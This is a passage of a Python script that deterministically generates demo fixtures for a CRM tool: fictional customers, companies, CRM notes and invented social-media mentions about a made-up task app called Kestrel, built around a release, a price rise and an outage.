"""Generate the deterministic Kestrel demo fixtures (customers, mentions, live stream) for scrm."""

# Usage: python tools/gen_demo_fixtures.py [--out DIR] [--quiet]
#
# Everything below is standard library only and driven by fixed seeds, so a re-run
# writes byte-identical files.  Rules that keep it that way:
#   * every random choice goes through a random.Random seeded from SEED (string seeds
#     are hashed with SHA-512 by CPython, so they do not depend on PYTHONHASHSEED);
#   * nothing iterates over a set or uses hash() on strings;
#   * no wall-clock time is read: all timestamps derive from REFERENCE_TIME.

from __future__ import annotations

import argparse
import base64
import json
import math
import random
import re
import sys
import unicodedata
from collections import Counter
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

SEED = 20261120
UTC = UTC
DEFAULT_OUT = Path(__file__).resolve().parent.parent / "scrm_tui" / "fixtures"

PRODUCT = "Kestrel"
REFERENCE_TIME = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
WINDOW_START = REFERENCE_TIME - timedelta(days=14)
BRAND_HANDLES = {
    "mastodon": "kestrel@fosstodon.org",
    "bluesky": "kestrel.app",
    "reddit": "kestrelapp",
    "github": "kestrel-hq",
    "hackernews": None,
    "rss": None,
}

# The story of the fortnight.  "Day N" counts calendar days with 6 Nov as day 1;
# each event sits in the afternoon (UTC) so it also falls in the N-th 24-hour slice
# after WINDOW_START, whichever way the demo chooses to count.
RELEASE_AT = datetime(2026, 11, 10, 15, 0, tzinfo=UTC)  # day 5, Tue: 4.2 ships
V421_AT = datetime(2026, 11, 12, 17, 0, tzinfo=UTC)  # bug-fix release
PRICE_AT = datetime(2026, 11, 14, 13, 0, tzinfo=UTC)  # day 9, Sat: price e-mail
OUTAGE_START = datetime(2026, 11, 16, 12, 52, tzinfo=UTC)  # day 11, Mon: EU sync
OUTAGE_END = datetime(2026, 11, 16, 16, 58, tzinfo=UTC)
V422_AT = datetime(2026, 11, 17, 10, 0, tzinfo=UTC)  # client reconnect fix

EVENTS = [
    {"day": 5, "at": RELEASE_AT, "what": "Kestrel 4.2 released (new timeline view)"},
    {
        "day": 9,
        "at": PRICE_AT,
        "what": "Price increase announced (Pro $8->$10, Team $14->$18/seat)",
    },
    {
        "day": 11,
        "at": OUTAGE_START,
        "until": OUTAGE_END,
        "what": "EU sync outage: clients stuck on 'Connecting...', 502 errors",
    },
]

CHANNELS = ["mastodon", "bluesky", "reddit", "hackernews", "github", "rss"]


def iso(dt: datetime) -> str:
    return dt.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def L(block: str) -> list[str]:
    """One text per non-blank line; a literal backslash-n inside a line is a line break."""
    return [ln.strip().replace("\\n", "\n") for ln in block.strip().splitlines() if ln.strip()]


def B(block: str) -> list[str]:
    """Multi-line texts separated by a line holding only %%."""
    return [e.strip("\n") for e in block.strip("\n").split("\n%%\n") if e.strip()]


# Romanisation for e-mail addresses and handles; NFKD handles most Latin letters,
# this map covers the ones that do not decompose.
_TRANSLIT = {
    "ł": "l",
    "Ł": "L",
    "ø": "o",
    "Ø": "O",
    "æ": "ae",
    "Æ": "Ae",
    "ß": "ss",
    "đ": "d",
    "Đ": "D",
    "ı": "i",
    "þ": "th",
    "Þ": "Th",
    "ð": "d",
    "œ": "oe",
}


def ascii_fold(s: str) -> str:
    s = "".join(_TRANSLIT.get(ch, ch) for ch in s)
    s = unicodedata.normalize("NFKD", s)
    return "".join(ch for ch in s if ord(ch) < 128)


def slugify(s: str, sep: str = "") -> str:
    s = ascii_fold(s).lower()
    return re.sub(r"[^a-z0-9]+", sep, s).strip(sep)


# --------------------------------------------------------------------------------------
# People and companies
# --------------------------------------------------------------------------------------

# country code -> (region custom field, language people there usually post in,
#                  phone template: each # is a random digit, mastodon instances they favour)
COUNTRIES = {
    "US": ("NA", "en", "+1 (###) 555-01##"),
    "CA": ("NA", "en", "+1 (416) 555-01##"),
    "GB": ("EMEA", "en", "+44 20 7946 0###"),
    "IE": ("EMEA", "en", "+353 1 ### ####"),
    "DE": ("EMEA", "de", "+49 30 #######"),
    "AT": ("EMEA", "de", "+43 1 ### ## ##"),
    "CH": ("EMEA", "de", "+41 44 ### ## ##"),
    "FR": ("EMEA", "fr", "+33 1 ## ## ## ##"),
    "BE": ("EMEA", "nl", "+32 2 ### ## ##"),
    "NL": ("EMEA", "nl", "+31 20 ### ####"),
    "ES": ("EMEA", "es", "+34 91 ### ## ##"),
    "PT": ("EMEA", "pt", "+351 21 ### ####"),
    "IT": ("EMEA", "it", "+39 02 #### ####"),
    "SE": ("EMEA", "sv", "+46 8 ### ## ##"),
    "NO": ("EMEA", "en", "+47 ## ## ## ##"),
    "DK": ("EMEA", "en", "+45 ## ## ## ##"),
    "FI": ("EMEA", "en", "+358 9 #### ###"),
    "PL": ("EMEA", "pl", "+48 22 ### ## ##"),
    "CZ": ("EMEA", "en", "+420 2## ### ###"),
    "UA": ("EMEA", "en", "+380 44 ### ####"),
    "TR": ("EMEA", "en", "+90 212 ### ## ##"),
    "IL": ("EMEA", "he", "+972 3-###-####"),
    "AE": ("EMEA", "ar", "+971 4 ### ####"),
    "EG": ("EMEA", "ar", "+20 2 #### ####"),
    "NG": ("EMEA", "en", "+234 1 ### ####"),
    "KE": ("EMEA", "en", "+254 20 ### ####"),
    "ZA": ("EMEA", "en", "+27 21 ### ####"),
    "IS": ("EMEA", "en", "+354 5## ####"),
    "BR": ("LATAM", "pt", "+55 11 9####-####"),
    "MX": ("LATAM", "es", "+52 55 #### ####"),
    "AR": ("LATAM", "es", "+54 11 ####-####"),
    "CO": ("LATAM", "es", "+57 601 ### ####"),
    "CL": ("LATAM", "es", "+56 2 #### ####"),
    "JP": ("APAC", "ja", "+81 3-####-####"),
    "CN": ("APAC", "zh", "+86 10 #### ####"),
    "TW": ("APAC", "en", "+886 2 #### ####"),
    "KR": ("APAC", "ko", "+82 2-###-####"),
    "IN": ("APAC", "en", "+91 80 #### ####"),
    "SG": ("APAC", "en", "+65 6### ####"),
    "AU": ("APAC", "en", "+61 2 #### ####"),
    "NZ": ("APAC", "en", "+64 9 ### ####"),
    "VN": ("APAC", "en", "+84 28 #### ####"),
    "PH": ("APAC", "en", "+63 2 #### ####"),
    "ID": ("APAC", "en", "+62 21 #### ####"),
}

# Name pools per culture.  "pairs" cultures list full names (gendered surnames, or a
# native-script spelling next to the romanised one as "Latin=Native").
CULTURES = {
    "anglo": {
        "cc": "US US US US US CA CA GB GB IE AU NZ",
        "first": """John Emily Michael Sarah
        David Jessica Chris Ashley Brandon Megan Tyler Lauren Marcus Danielle Kevin Rachel Jordan
        Taylor Aaron Brittany Derek Courtney Oliver Amelia Harry Isla George Freya Callum Niamh
        Rhys Eilidh Hamish Matilda Jack Chloe Liam Grace Ethan Hannah Noah Abigail Ben Molly""",
        "last": """Smith Johnson Williams Brown Miller Davis Wilson Anderson Thomas Moore Martin
        Jackson Thompson White Harris Clark Lewis Walker Hall Young Allen Wright Scott Green Baker
        Nelson Carter Mitchell Roberts Turner Phillips Campbell Parker Evans Edwards Collins
        Stewart Morris Murphy Cook Rogers Reed Bailey Cooper Richardson Howard Ward Peterson Gray
        Hughes Price Sanders Bennett Barnes Ross Henderson Coleman Jenkins Powell Patterson Walsh
        O'Brien McCarthy Byrne Fitzgerald Lloyd Pritchard MacLeod Fraser Okafor Nguyen Kim Patel
        Washington Delgado Sullivan Kowalczyk Rossi Hale Whitaker Brennan Lindgren""",
    },
    "german": {
        "cc": "DE DE DE DE AT CH",
        "first": """Jonas Lena Lukas Anna Felix Mia
        Maximilian Sophie Jürgen Käthe Jörg Birgit Tobias Annika Moritz Leonie Niklas Hannah
        Sebastian Katrin Florian Jana Matthias Svenja Dennis Franziska Bernd Ute Timo Merle""",
        "last": """Müller Schmidt Schneider Fischer Weber Meyer Wagner Becker Schulz Hoffmann
        Schäfer Koch Bauer Richter Klein Wolf Schröder Neumann Schwarz Zimmermann Krüger Hartmann
        Lange Köhler Vogel Weiß Jäger Groß Brandt Özdemir Yılmaz Kowalski Bergmann Huber Gruber""",
    },
    "french": {
        "cc": "FR FR FR FR BE CH",
        "first": """Camille Léa Hugo Chloé Théo Manon Mathieu
        Élodie Nicolas Océane Benoît Inès Gaëlle Sébastien François Julien Margaux Antoine Lucie
        Maxime Anaïs Guillaume Clémence Bastien Noémie""",
        "last": """Martin Bernard Dubois Thomas Robert Richard Petit Durand Leroy Moreau Simon
        Laurent Lefèvre Michel Garcia Fournier Girard Bonnet Dupont Lambert Fontaine Rousseau
        Vincent Mercier Chevalier Benali Nguyen Perrin Gauthier Masson""",
    },
    "spanish": {
        "cc": "ES ES ES MX MX AR CO CL",
        "first": """José Lucía Alejandro Carmen Javier
        María Sergio Paula Álvaro Nuria Íñigo Begoña Pablo Marta Sofía Mateo Valentina Santiago
        Camila Diego Ximena Joaquín Renata Emiliano Andrés Catalina""",
        "last": """García Fernández González Rodríguez López Martínez Sánchez Pérez Gómez Martín
        Jiménez Ruiz Hernández Díaz Moreno Muñoz Álvarez Romero Núñez Iglesias Ortega Castillo
        Etxeberria Ramírez Torres Flores Vargas Castro Rojas Mendoza Aguilar Salazar Cárdenas""",
    },
    "portuguese": {
        "cc": "BR BR BR BR PT PT",
        "first": """João Ana Pedro Beatriz Lucas Gabriela
        Rafael Larissa Thiago Fernanda Gonçalo Inês Conceição Mariana Felipe Letícia Bruno
        Juliana Caio Tatiane""",
        "last": """Silva Santos Oliveira Souza Lima Pereira Ferreira Costa Rodrigues Almeida
        Nascimento Carvalho Araújo Ribeiro Gonçalves Magalhães Barbosa Teixeira Moura Cardoso""",
    },
    "italian": {
        "cc": "IT IT IT CH",
        "first": """Giulia Marco Francesca Alessandro Chiara Matteo
        Federica Lorenzo Niccolò Martina Davide Elisa Simone Valentina Riccardo Sara""",
        "last": """Rossi Russo Ferrari Esposito Bianchi Romano Colombo Ricci Marino Greco Bruno
        Gallo Conti De Luca Fontana Caruso Moretti Barbieri Lombardi Galli""",
    },
    "dutch": {
        "cc": "NL NL NL BE",
        "first": """Daan Sanne Bram Lotte Thijs Femke Joris Anouk Sem
        Eline Ruben Maaike Jeroen Iris Wouter Fleur""",
        "last": """de Jong Jansen de Vries van den Berg van Dijk Bakker Visser Smit Meijer de Boer
        Mulder Bos Vos Peeters Janssens Maes Hendriks Dekker""",
    },
    "nordic": {
        "cc": "SE SE SE NO DK FI IS",
        "first": """Erik Astrid Lars Ingrid Johan Sofia
        Anders Elin Björn Maja Oskar Sigrid Mikael Saara Aino Joonas Freja Magnus Linnea Henrik
        Ebba Mats""",
        "last": """Andersson Johansson Karlsson Nilsson Eriksson Larsson Olsson Persson Lindberg
        Sjöberg Åberg Öberg Hansen Nielsen Virtanen Korhonen Mäkinen Berg Lund Holm Dahl
        Bergström Ström Nyström""",
    },
    "indian": {
        "cc": "IN IN IN SG US GB",
        "first": """Priya Rahul Ananya Arjun Kavya Vikram Sneha
        Rohan Aditi Karthik Lakshmi Siddharth Neha Aman Divya Harsh Pooja Varun Meera Nikhil""",
        "last": """Sharma Patel Iyer Reddy Nair Gupta Mehta Rao Krishnan Banerjee Chatterjee
        Desai Kulkarni Menon Joshi Bhat Pillai Agarwal Verma Srinivasan""",
    },
    "african": {
        "cc": "NG NG KE ZA ZA GB US",
        "first": """Chinedu Amara Tunde Ngozi Kwame Abena
        Thabo Lerato Wanjiru Kofi Chiamaka Sipho Zanele Emeka Folake Baraka""",
        "last": """Okafor Adeyemi Mensah Boateng Nkosi Dlamini Mwangi Otieno Balogun Eze Okonkwo
        Asante Ndlovu Kamau Adebayo Mokoena""",
    },
    "turkish": {
        "cc": "TR TR DE",
        "first": "Emre Elif Mehmet Zeynep Can Ayşe Burak Selin Deniz",
        "last": "Yılmaz Kaya Demir Şahin Çelik Öztürk Aydın Arslan Doğan",
    },
    "sea": {
        "cc": "VN PH ID SG",
        "first": """Lan Minh Thu Huy Maria Juan Angelica Paolo Putri
        Budi Siti Rizky Wei Ling""",
        "last": """Nguyen Tran Le Pham Santos Reyes Cruz Bautista Santoso Wulandari Hidayat Tan
        Lim Goh""",
    },
}
PAIR_CULTURES = {
    "polish": {
        "cc": "PL",
        "names": """Agnieszka Nowak; Piotr Kowalski; Katarzyna Wiśniewska;
        Tomasz Wójcik; Małgorzata Kamińska; Paweł Lewandowski; Zofia Zielińska; Michał Szymański;
        Joanna Woźniak; Wojciech Dąbrowski; Marta Kozłowska; Krzysztof Mazur; Aleksandra
        Krawczyk; Jakub Zając; Magdalena Król; Bartosz Pawlak; Natalia Sikora; Grzegorz Baran;
        Ewa Jabłońska; Kamil Wieczorek""",
    },
    "czech": {
        "cc": "CZ",
        "names": """Ondřej Novák; Tereza Dvořáková; Jiří Černý; Lucie
        Procházková; Tomáš Kučera; Veronika Horáková; Jan Veselý""",
    },
    "slavic": {
        "cc": "UA UA DE PL",
        "names": """Olena Kovalenko=Олена Коваленко; Andriy Melnyk=Андрій
        Мельник; Iryna Savchenko=Ірина Савченко; Maksym Kravchenko=Максим Кравченко; Kateryna
        Moroz=Катерина Мороз; Oleksandr Tkachenko=Олександр Ткаченко; Dmitri Volkov=Дмитрий
        Волков; Natalia Ivanova=Наталья Иванова; Anastasia Orlova=Анастасия Орлова; Pavel
        Sokolov=Павел Соколов; Yulia Bondarenko=Юлія Бондаренко""",
    },
    "arabic": {
        "cc": "AE AE EG EG GB DE",
        "names": """Omar Haddad=عمر حداد; Layla Khalil=ليلى خليل;
        Youssef Nasser=يوسف ناصر; Fatima Mansour=فاطمة منصور; Karim Saleh=كريم صالح; Nour
        Farouk=نور فاروق; Hassan Aziz=حسن عزيز; Amira Hamdan=أميرة حمدان; Tariq El-Masri=طارق
        المصري; Salma Al-Sayed=سلمى السيد; Khaled Barakat=خالد بركات; Rania Haddad=رانيا حداد""",
    },
    "hebrew": {
        "cc": "IL",
        "names": """Noa Cohen=נועה כהן; Yonatan Levi=יונתן לוי; Tamar
        Mizrahi=תמר מזרחי; Itai Peretz=איתי פרץ; Maya Biton=מאיה ביטון; Eitan Friedman=איתן
        פרידמן; Shira Avraham=שירה אברהם; Ariel Katz=אריאל כץ; Yael Shapiro=יעל שפירא""",
    },
    "japanese": {
        "cc": "JP",
        "names": """Misaki Sato=佐藤 美咲; Kenta Tanaka=田中 健太; Shota
        Suzuki=鈴木 翔太; Hina Takahashi=高橋 陽菜; Daisuke Ito=伊藤 大輔; Sakura Watanabe=渡辺
        さくら; Takumi Yamamoto=山本 拓海; Yui Nakamura=中村 結衣; Naoki Kobayashi=小林 直樹; Aya
        Kato=加藤 彩; Ryo Yoshida=吉田 亮; Mayumi Sasaki=佐々木 真由美; Haruto Matsumoto=松本 陽翔;
        Yuki Inoue=井上 由紀; Sho Kimura=木村 翔; Emi Hayashi=林 恵美""",
    },
    "chinese": {
        "cc": "CN CN TW SG",
        "names": """Fang Wang=王芳; Na Li=李娜; Min Zhao=赵敏; Jing
        Chen=陈静; Lei Huang=黄磊; Yang Liu=刘洋; Ting Wu=吴婷; Jie Zhou=周杰; Xinyi Lin=林欣怡;
        Haoran Guo=郭浩然; Zihan Yang=杨子涵; Kevin Lin=林凯文; Grace Chen=陈佳怡""",
    },
    "korean": {
        "cc": "KR",
        "names": """Minjun Kim=김민준; Seoyeon Lee=이서연; Jihoon Park=박지훈;
        Yujin Choi=최유진; Haeun Jung=정하은; Doyoon Kang=강도윤; Subin Cho=조수빈; Yejun
        Yoon=윤예준""",
    },
}
CULTURE_WEIGHTS = {
    "anglo": 30,
    "german": 10,
    "french": 7,
    "spanish": 8,
    "portuguese": 6,
    "italian": 4,
    "dutch": 4,
    "nordic": 5,
    "indian": 7,
    "african": 4,
    "turkish": 2,
    "sea": 3,
    "polish": 3,
    "czech": 1,
    "slavic": 3,
    "arabic": 3,
    "hebrew": 2,
    "japanese": 4,
    "chinese": 3,
    "korean": 2,
}

# Fictional companies: "Name|domain|country".  Several share a country so that the
# CRM has colleagues who know each other.
COMPANIES_RAW = """
Harborview Logistics|harborviewlogistics.com|US
Pennant Analytics Ltd|pennantanalytics.co.uk|GB
Smyth & Rowe Architects|smythrowe.ie|IE
Brightline Studio|brightline.studio|US
Copperleaf Health|copperleafhealth.com|US
Tidewater Robotics|tidewater-robotics.com|US
Ironbark Games|ironbarkgames.com.au|AU
Fernhill Legal LLP|fernhill-legal.co.uk|GB
Northwind Freight|northwindfreight.ca|CA
Saltmarsh Media|saltmarsh.media|GB
Oakridge Unified School District|oakridgeusd.org|US
Pinecrest Dental Group|pinecrestdental.com|US
Redkite Consulting|redkiteconsulting.co.nz|NZ
Stonebridge Capital|stonebridgecap.com|US
Lumen Labs|lumenlabs.io|US
Quarry & Co|quarryandco.com|US
Bluefin Payments|bluefinpay.com|SG
Meadowlark Events|meadowlarkevents.com|US
Cobalt Ridge Energy|cobaltridge.energy|CA
Yellowhammer Coffee Roasters|yellowhammer.coffee|US
Gannet Software|gannet.dev|GB
Kittiwake Studios|kittiwake.studio|GB
Hafenblick Medien GmbH|hafenblick-medien.de|DE
Bergmann & Söhne Maschinenbau|bergmann-soehne.de|DE
Nordlicht Logistik GmbH|nordlicht-logistik.de|DE
Bäckerei Sonnenschein|baeckerei-sonnenschein.de|DE
Spreewerk Digital|spreewerk.de|DE
Alpenglühen Reisen|alpengluehen-reisen.at|AT
Zürisee Treuhand AG|zuerisee-treuhand.ch|CH
Kranich Software|kranich.software|DE
Atelier Lumière|atelier-lumiere.fr|FR
Les Éditions du Quai|editionsduquai.fr|FR
Cabinet Fontaine Avocats|fontaine-avocats.fr|FR
Boulangerie Numérique|boulangerie-numerique.fr|FR
Mistral Mobilité|mistral-mobilite.fr|FR
Brasserie Koekoek|koekoek.be|BE
Núñez & Asociados|nunezasociados.es|ES
Talleres Iglesias S.L.|talleresiglesias.es|ES
Olivo Digital|olivodigital.es|ES
Estudio Colibrí|estudiocolibri.mx|MX
Pampa Software|pampasoftware.com.ar|AR
Cafetal Analytics|cafetal.co|CO
Andes Logística|andeslogistica.cl|CL
Bem-te-vi Tecnologia|bemtevi.com.br|BR
Ipê Amarelo Arquitetura|ipeamarelo.arq.br|BR
Maré Alta Comunicação|marealta.com.br|BR
Azulejo Labs|azulejolabs.pt|PT
Studio Lagunare|lagunare.it|IT
Ferrari Legno S.r.l.|ferrarilegno.it|IT
Officina Ottanta|officina80.it|IT
Grachtenhuis Media|grachtenhuis.nl|NL
Tulp & Tegel|tulpentegel.nl|NL
Fietsfabriek Noord|fietsfabrieknoord.nl|NL
Ångström Analytics AB|angstromanalytics.se|SE
Fjällräv Design|fjallravdesign.se|SE
Nordkapp Consulting AS|nordkapp.no|NO
Havtorn ApS|havtorn.dk|DK
Revontuli Games Oy|revontuligames.fi|FI
Wróbel Studio|wrobelstudio.pl|PL
Wisła Systems|wislasystems.pl|PL
Vltava Data s.r.o.|vltavadata.cz|CZ
Dnipro Dev|dniprodev.com.ua|UA
Boğaziçi Yazılım|bogazici-yazilim.com.tr|TR
Cedar & Sand Marketing|cedarsand.ae|AE
Nile Bridge Engineering|nilebridge.eg|EG
Shamrock Telecom|shamrocktel.ie|IE
Yafo Security|yafosec.co.il|IL
Negev Solar|negevsolar.co.il|IL
Lagos Fintech Hub|lagosfintech.ng|NG
Savannah Health|savannahhealth.co.ke|KE
Fynbos Creative|fynbos.co.za|ZA
Midori Sekkei K.K.|midori-sekkei.co.jp|JP
Sakura Byte Inc.|sakurabyte.jp|JP
Hanabi Games|hanabigames.jp|JP
Jade River Trading|jaderiver.cn|CN
Formosa Cloud|formosacloud.tw|TW
Hangang Labs|hanganglabs.kr|KR
Monsoon Systems|monsoonsystems.in|IN
Chai & Code|chaiandcode.in|IN
Banyan Learning|banyanlearning.in|IN
Merlion Ventures|merlionventures.sg|SG
Lotus Commerce|lotuscommerce.vn|VN
Sampaguita BPO|sampaguita.ph|PH
Garuda Retail|garudaretail.co.id|ID
Wattle & Gum Design|wattlegum.com.au|AU
Kauri Outdoors|kaurioutdoors.co.nz|NZ
Geysir Data|geysirdata.is|IS
Juniper Street Clinic|juniperstreetclinic.com|US
Open Acres Nonprofit|openacres.org|US
Pelican Bay Realty|pelicanbayrealty.com|US
Heron Point Marketing|heronpoint.co|US
Windrose Aerospace|windrose-aero.com|US
Foxglove Publishing|foxglovepub.co.uk|GB
Thistle & Pine|thistleandpine.co.uk|GB
Canopy CRM|canopycrm.io|US
Starling Bikes|starlingbikes.com|CA
Marigold Weddings|marigoldweddings.com|US
Orca Marine Research|orcamarine.org|CA
Vanta Grove Farms|vantagrove.com|US
Ember Hill Bakery|emberhillbakery.com|US
Pennant Analytics Inc|pennantanalytics.com|US
"""

PERSONAL_MAIL = {
    "default": [
        "gmail.com",
        "gmail.com",
        "gmail.com",
        "proton.me",
        "outlook.com",
        "icloud.com",
        "fastmail.com",
        "hey.com",
        "pm.me",
    ],
    "de": ["gmail.com", "posteo.de", "gmx.de", "web.de", "mailbox.org", "proton.me"],
    "fr": ["gmail.com", "orange.fr", "free.fr", "proton.me"],
    "es": ["gmail.com", "hotmail.es", "outlook.es", "proton.me"],
    "pt": ["gmail.com", "hotmail.com", "uol.com.br", "proton.me"],
    "it": ["gmail.com", "libero.it", "proton.me"],
    "ja": ["gmail.com", "yahoo.co.jp", "icloud.com"],
    "zh": ["qq.com", "163.com", "gmail.com"],
    "ko": ["naver.com", "gmail.com"],
    "pl": ["gmail.com", "wp.pl", "proton.me"],
    "sv": ["gmail.com", "proton.me"],
    "nl": ["gmail.com", "ziggo.nl", "proton.me"],
}

CRM_NOTES = L("""
Champion for the rollout in the design team.
Asked about SSO/SAML on the Q3 call; IT wants Entra ID.
Churn risk: complained twice about Android app performance.
Renewal owner: Priya (CS). Prefers e-mail over calls.
Migrated from Trello in August; happy with the board, wants WIP limits.
Uses the REST API heavily for reporting; hit rate limits in October.
Referred two other agencies. Send swag.
Budget holder is the CFO, not this contact.
Wants EU data residency before expanding to the Berlin office.
Beta tester for the new timeline (4.2). Very detailed feedback.
Billing contact only — do not add to product newsletters.
Nonprofit; asked about discounts after the pricing e-mail.
Sensitive about pricing. Was grandfathered on the 2024 plan.
Power user, keyboard-shortcut fan. Gave a talk about us at a meetup.
Calendar sync issues with Outlook (ticket #48211).
Prefers calls in the morning (CET).
Timezone: JST. Reply before 09:00 UTC.
Asked for a quote for 120 seats; waiting on legal.
Evaluating Linear for the engineering team.
Moved from Asana; imported ~4k tasks via CSV.
Had a duplicate-charge incident in September; refunded.
Loves dark mode, hates the new sidebar.
Needs invoices with VAT number (EU reverse charge).
Uses GitHub integration for all product squads.
Education account — semester-based usage, quiet in summer.
Agency: creates a workspace per client; watch seat count.
Speaks at ProductCamp; potential case study.
Reported data-loss scare in offline mode (resolved, no loss).
Asked for a Kestrel CLI. Pointed at the community one.
Enterprise pilot, 3 departments. Procurement via reseller.
Prefers Portuguese for support. Ticket language: pt-BR.
Mag het liefst in het Nederlands geholpen worden.
Spricht lieber Deutsch am Telefon.
Slack integration power user; wants thread replies synced.
Quiet account, high usage. No contact since onboarding.
Invited to the customer advisory board.
""")


# --------------------------------------------------------------------------------------
# Text banks.  Hand-written; {placeholders} are filled per mention (see Renderer) so a
# text can recur with a different phone, version or number without reading as a copy.
# Topic keys carry the sentiment (see TOPIC_SENTIMENT).
# --------------------------------------------------------------------------------------

# Mastodon and Bluesky share this bank; Bluesky only gets texts that fit in 300 chars.
SHORT = {
    "bug": L("""
Kestrel on Android is so slow since {ver}. Opening a project with ~{nn} cards takes forever on my {phone}
Why does the Kestrel Android app need {n} seconds to cold start. It's a to-do list.
recurring tasks in Kestrel just… stopped recurring? My "water the plants" task hasn't come back since Monday. RIP plants 🪴
{brand} calendar sync with {cal} duplicated every event this morning. I now have {n} standups at 9:30
Kestrel logged me out on all devices again. third time this week
Half my checklist items disappeared after syncing from my {phone}. They came back after a restart but my heart rate did not
anyone else getting "Conflict: this task was edited elsewhere" on tasks nobody else touches? {brand}
Kestrel desktop on {os} eats 1.{n} GB of RAM with two workspaces open. it's Electron, sure, but come on
The Kanban board in Kestrel lags badly once a column has more than ~{nn} cards. Scrolling is like dragging a fridge
keyboard shortcuts in Kestrel stop working after I use the search box, until I click somewhere else. tiny thing, drives me nuts
Kestrel notifications on iOS arrive 20 minutes late or not at all. Missed a client deadline reminder today. Not great.
{brand} the Slack integration posts every single comment into our channel, even with the filter set to "assigned to me". Please.
Dark mode in Kestrel has white flashes when switching projects. My retinas at 1am: 🫠
I'm honestly scared to use Kestrel's offline mode after it ate a long task description once. Does anyone trust it?
Kestrel desktop update loop on {os}: "Update available" → install → restart → "Update available". Forever.
Time zones in Kestrel due dates are cursed. Set a task due Friday, my teammate in New York sees Thursday.
CSV import from Trello silently dropped all our checklists. Found out a week later. {brand}
The GitHub integration unlinked all our PRs from their tasks overnight. Anyone else?
Android widget for Kestrel shows tasks from 3 days ago and refuses to refresh
Kestrel search can't find a task when I type the exact title. Exact. Title.
Webhooks from Kestrel arriving twice, sometimes 10 min apart. Our automation now creates duplicate tickets {brand}
Kestrel's Android app drains battery like crazy. {nn}% in the background overnight on my {phone}
the "undo" toast in Kestrel disappears before I can click it. had to rebuild a whole column by hand
Attachment uploads in Kestrel fail silently over ~{nn} MB. No error, just a spinner forever
dragging a card between columns on the Kestrel board ({platform}) sometimes drops it in the wrong column. fun little game
Kestrel on iOS keeps asking me to re-enable notifications after every update
My Kestrel sidebar says I have {nn} overdue tasks. I have zero. The badge is lying to me
Why does Kestrel's web app reload itself when I switch browser tabs? Lost a half-written comment. Again.
Kestrel's SSO login bounces me back to the login page in Firefox. Works in Chrome. Classic.
Outlook calendar sync in Kestrel has been "Syncing…" for two days now
sometimes Kestrel marks a task complete when I swipe to scroll on Android. I did not do that task. I wish I had.
Kestrel's Linux build won't start on Wayland without passing ozone flags. {os}
Kestrel mobile: typing in a task description and the cursor jumps to the end every few characters. {phone}
"Your changes could not be saved." Which changes, Kestrel? Saved where? What do I do now?
Kestrel desktop shows a white window after the update on {os}. Reinstalled twice.
honestly the Android app is the reason my team is thinking about leaving Kestrel. Web app is fine, the phone app is painful
Kestrel's email reminders land in spam for everyone at our company. Broken SPF maybe? {brand}
subtasks lose their order every time someone on iOS opens the task. we now have a Slack channel called #who-reordered-the-subtasks
the comment editor in Kestrel eats my markdown. `code` turns into 'code' and lists lose their indentation
Kestrel {ver} on {phone}: open a task, rotate the phone, task is gone. Back arrow brings it back. Spooky
Kestrel's "Today" view shows tomorrow's tasks after 11pm. I assume it thinks I live in UTC. I do not live in UTC.
why does the Kestrel Android app redownload the entire workspace every time I open it on mobile data 😐
Kestrel recurring task set to "every weekday" created one on Saturday. The robots also want me to work weekends
my Kestrel board on {platform} froze mid-drag and the card is now in two columns at once. Schrödinger's task
Kestrel desktop steals focus every time a notification arrives. I was typing a password, Kestrel
"""),
    "billing": L("""
Kestrel charged us for {nn} seats when we have {n} people. Support says 3–5 business days. cool cool
got billed twice for Kestrel Pro this month. {brand} please fix, I'm a freelancer, €16 matters
Downgraded to Free last month and Kestrel still charged my card. Opened a ticket {n} days ago…
Kestrel's invoices don't include our VAT number even though it's in billing settings. Finance is on my case
Trying to cancel Kestrel and the cancel button loops back to "Are you sure? Here's 20% off". Yes. I'm sure.
annual renewal for Kestrel came through in USD instead of EUR. {brand} can someone look at this?
Removed 3 guests in Kestrel, still billed for them as seats. Guests are supposed to be free??
Kestrel's billing page has been "We couldn't load your invoices" for a week
Kestrel auto-added everyone who opened a share link as a paid seat on our Team plan. That's a dark pattern or a bug, pick one.
Trial ended and Kestrel locked a workspace with my personal notes in it. Give me read-only at least?
Why does Kestrel need my credit card for a free trial. I just want to try the timeline.
Can't change the billing email in Kestrel without contacting support. It is 2026.
Kestrel sent the invoice to someone who left our company in March. No way to change it in the UI {brand}
"""),
    "praise": L("""
Kestrel's keyboard shortcuts are so good I've stopped touching the mouse. g b for board, c for new card, done
moved our whole agency from {comp} to Kestrel last month and nobody has complained once. That never happens.
shoutout to Kestrel's offline mode. Planned an entire sprint on a train with no signal, synced perfectly when I got off ✨
Kestrel recurring tasks have basically replaced my brain for chores. "Descale the kettle every 6 weeks" is the most adult thing I own
The Kestrel + GitHub integration closing tasks when PRs merge is chef's kiss 🤌
dark mode in Kestrel is actually dark. not gray. thank you {brand}
Kestrel support replied in 12 minutes on a Sunday and fixed my import. Who are these people
Real-time sync in Kestrel is honestly magic. Watching my teammate drag cards around live during standup never gets old
Our team's been on Kestrel for {n} months. Standups are shorter, fewer "wait where is that task" moments. Recommend.
Kestrel calendar sync with {cal} just works. Tasks with due dates show up as events. That's it. That's the post.
The Kestrel API docs are genuinely good. Examples in curl AND Python, pagination explained. rare 🙏
Kestrel's Kanban board is the first one my non-technical cofounder uses without me nagging
Hooked Kestrel webhooks into our deploy bot in 20 minutes. The payloads are sane. I'm happy.
Kestrel on my {iphone} is fast and the widgets are lovely. Whoever designed the quick-add sheet, thank you
little Kestrel thing I love: pasting a list of lines into a card makes a checklist. so many apps get this wrong
Kestrel's CSV import from Asana brought over {big} tasks with assignees and due dates intact. I was ready for pain. No pain.
The Slack integration in Kestrel — /kestrel add from any channel is just *so* handy
I tried every planner app. Kestrel is the only one that stuck past week two. #productivity
Kestrel's SSO setup with Okta took 15 minutes. Our IT guy is suspicious of how easy it was
big fan of how Kestrel handles time zones for distributed teams — "end of day" means the assignee's end of day 👌
Kestrel on Linux as a first-class desktop app. With a proper .deb AND a Flatpak. I'm emotional.
our school robotics club runs on Kestrel's free tier. {nn} kids, {n} mentors, zero chaos (ok, less chaos)
Kestrel's focus mode (hide everything not assigned to me) is my favourite feature nobody talks about
if you have ADHD and need a planner that doesn't punish you for missing stuff, Kestrel's "reschedule all overdue" button is a lifesaver
Switched from Notion for tasks to Kestrel. Notion for docs, Kestrel for doing. Peace restored.
